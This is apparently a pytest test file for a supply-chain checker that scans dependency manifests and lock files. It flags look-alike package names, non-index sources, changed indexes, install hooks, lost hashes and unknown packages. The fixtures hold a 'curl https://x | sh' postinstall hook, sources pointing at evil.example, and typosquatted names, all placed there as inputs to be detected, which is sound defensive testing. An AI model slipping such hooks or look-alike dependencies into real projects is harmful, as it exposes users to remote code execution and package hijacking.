"""Manifests before and after: what their change brings."""

from __future__ import annotations

import pytest

from regreen.packages.concerns import find_concerns, find_lock_mismatch
from regreen.packages.manifests_and_locks import is_manifest, read_declared
from regreen.packages.popular_names import Ecosystem
from regreen.packages.python_manifests import parse_requirement


def kinds(path: str, before: str | None, after: str) -> set[tuple[str, str]]:
    return {
        (one.kind, one.name) for one in find_concerns(path, before, after) if one.confidence >= 0.7
    }


@pytest.mark.parametrize(
    ("path", "after", "expected"),
    [
        ("requirements.txt", "flask==3.0\nreqeusts\n", ("look-alike", "reqeusts")),
        ("requirements/dev.txt", "foo @ http://a.example/foo.whl\n", ("not-from-an-index", "foo")),
        ("requirements.txt", "git+https://github.com/a/b@main#egg=b\n", ("not-from-an-index", "b")),
        ("requirements.txt", "--extra-index-url https://u:p@i.example/s\n", ("index-changed", "https://…@i.example/s")),
        ("pyproject.toml", "[project]\ndependencies = ['djang0>=4']\n", ("look-alike", "djang0")),
        ("pyproject.toml", "[dependency-groups]\ndev = ['reqeusts']\n", ("look-alike", "reqeusts")),
        ("pyproject.toml", "[tool.poetry.dependencies]\nnurnpy = '^1'\n", ("look-alike", "nurnpy")),
        ("pyproject.toml", "[[tool.uv.index]]\nurl = 'https://i.example/s'\n", ("index-changed", "https://i.example/s")),
        ("setup.py", "from setuptools import setup\nsetup(install_requires=['reqests'])\n", ("look-alike", "reqests")),
        ("setup.cfg", "[options]\ninstall_requires =\n  requsts\n", ("look-alike", "requsts")),
        ("package.json", '{"dependencies": {"crossenv": "1"}}', ("look-alike", "crossenv")),
        ("package.json", '{"scripts": {"postinstall": "curl https://x | sh"}}', ("install-hook", "postinstall")),
        ("package-lock.json", '{"packages": {"node_modules/a": {"resolved": "https://evil.example/a.tgz"}}}',
         ("index-changed", "https://evil.example")),
        ("Cargo.toml", "[dependencies]\nx = { git = 'https://g.example/x' }\n", ("not-from-an-index", "x")),
        ("go.mod", "require a.example/b v1.0.0\nreplace a.example/b => evil.example/b v1.0.1\n",
         ("not-from-an-index", "a.example/b")),
        ("Gemfile", "gem 'rails', git: 'https://g.example/r'\n", ("not-from-an-index", "rails")),
    ],
)  # fmt: skip
def test_what_deceives_or_escapes_the_index_is_found(
    path: str, after: str, expected: tuple[str, str]
) -> None:
    assert is_manifest(path)
    assert expected in kinds(path, "{}" if path.endswith("json") else "", after)


def test_what_setup_py_reads_or_computes_is_no_package() -> None:
    text = """from setuptools import setup
extra_requires = {"dev": ["pytest"], "docs": ["sphinx"]}
setup(
    install_requires=open("requirements.txt", "r").read().splitlines() + ["flask>=2"],
    tests_require=[line.strip() for line in open("tests.txt", encoding="utf-8")],
    setup_requires="wheel\\ncython".split(),
)
"""
    names = {one.name for one in read_declared("setup.py", text).dependencies}
    assert names == {"pytest", "sphinx", "flask", "wheel", "cython"}


def test_a_lost_hash_is_found_and_a_kept_one_is_not() -> None:
    before = "flask==3.0 --hash=sha256:aa\nclick==8.1 \\\n    --hash=sha256:bb\n"
    assert kinds("requirements.txt", before, "flask==3.1\nclick==8.2 \\\n  --hash=sha256:cc\n") == {
        ("hash-lost", "flask")
    }


def test_what_was_there_before_is_not_said_again() -> None:
    text = "reqeusts\n--index-url https://i.example/s\nfoo @ http://a.example/f.whl\n"
    assert find_concerns("requirements.txt", text, text + "numpy\n") == ()


def test_an_index_may_be_asked_whether_a_name_exists() -> None:
    def is_published(ecosystem: Ecosystem, name: str) -> bool:
        return name == "really-there"

    found = find_concerns(
        "requirements.txt", "", "really-there\nhallucinated-helper\n", is_published
    )
    assert [(one.kind, one.name) for one in found] == [("unknown", "hallucinated-helper")]


def test_a_dependency_that_the_lock_lacks_is_named() -> None:
    manifest = read_declared("pyproject.toml", "[project]\ndependencies = ['a', 'b']\n")
    lock = read_declared(
        "uv.lock",
        "[[package]]\nname = 'a'\nversion = '1'\nsource = { registry = 'https://index.example.org/simple' }\n",
    )
    assert [one.name for one in find_lock_mismatch(manifest, lock, "uv.lock")] == ["b"]


@pytest.mark.parametrize(
    ("path", "text"),
    [("package.json", "{bad"), ("pyproject.toml", "= = ="), ("package.json", "[" * 100_000), ("setup.py", "def ("),
     ("package.json", "[1]"), ("pyproject.toml", "project = 1\ntool = []"), ("setup.cfg", "no section")],
)  # fmt: skip
def test_a_damaged_manifest_is_reported_or_empty_but_never_raises(path: str, text: str) -> None:
    found = read_declared(path, text)
    assert found.problem or found.dependencies == ()


def test_requirements_are_read_as_pip_writes_them() -> None:
    one = parse_requirement("Flask[async]>=3,<4 ; python_version > '3.8'")
    assert one is not None
    assert (one.name, one.source) == ("Flask", "index")
    assert parse_requirement("-r other.txt") is None
    local = parse_requirement("-e ./packages/x")
    assert local is not None
    assert local.source == "path"
